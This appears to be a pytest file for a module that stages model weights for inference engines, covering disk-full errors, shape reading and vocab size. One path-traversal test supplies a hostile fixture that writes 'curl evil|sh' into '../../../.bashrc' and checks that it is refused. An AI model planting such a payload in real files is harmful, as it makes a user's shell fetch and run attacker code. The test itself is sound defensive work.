"""Versions as folders, and what model files say of themselves."""

from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors import SafetensorError
from safetensors.torch import save_file

from actors.engines.external.staging import Staging, model_shapes, shapes_of, vocab_size
from bus.weights import Weights
from schemas.config.model import ModelConfig
from tests.conftest import ModelFolder
from tests.folders import scratch_at


def test_no_room_for_a_version_is_told_with_the_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """And whom it was for; nothing is left of the file."""

    def no_room(tensors: Any, path: Path) -> None:
        path.write_bytes(b"half")
        raise SafetensorError("No space left on device")

    monkeypatch.setattr("safetensors.torch.save_file", no_room)
    folders, weights = (
        Staging(scratch_at(tmp_path / "run" / "scratch"), "SGLang"),
        Weights("full", {"a": torch.zeros(1)}),
    )
    problem = r"GB of weights can't be written for SGLang to .* No space left on device; set weights.directory"
    with pytest.raises(ValueError, match=problem):
        folders.full("1.1.1", weights, with_head=False)
    assert not list((tmp_path / "run" / "scratch").iterdir())


def test_no_file_is_written_outside_the_scratch_folder(tmp_path: Path) -> None:
    """Names of files that came with broadcast weights are looked at again where they are written."""
    folders = Staging(scratch_at(tmp_path / "run" / "scratch"), "vLLM")
    weights = Weights("adapter", {"a": torch.zeros(1)}, {"../../../.bashrc": "curl evil|sh"})
    with pytest.raises(ValueError, match=r"allowed are: adapter_config\.json"):
        folders.adapter("1.1.1", weights)
    assert not list(tmp_path.rglob("*bashrc"))


def test_shapes_are_read_from_the_header_alone(tmp_path: Path, model_folder: ModelFolder) -> None:
    """Of one file, or of all that the index names."""
    shapes = shapes_of(model_folder() / "model.safetensors")
    assert shapes["model.norm.weight"] == (32,)
    assert shapes == model_shapes(ModelConfig(path=str(model_folder())))
    for name in ("a", "b"):
        save_file({name: torch.zeros(2, 3)}, tmp_path / f"{name}.safetensors")
    index = '{"weight_map": {"a": "a.safetensors", "b": "b.safetensors"}}'
    (tmp_path / "model.safetensors.index.json").write_text(index)
    assert model_shapes(ModelConfig(path=str(tmp_path))) == {"a": (2, 3), "b": (2, 3)}


@pytest.mark.parametrize(
    "settings", ['{"vocab_size": 30}', '{"text_config": {"vocab_size": 30}}', '{"text_config": {}, "vocab_size": 30}']
)
def test_the_vocabulary_is_that_of_the_text_model(tmp_path: Path, settings: str) -> None:
    """Models of more than text have it one level down."""
    (tmp_path / "config.json").write_text(settings)
    assert vocab_size(ModelConfig(path=str(tmp_path))) == 30
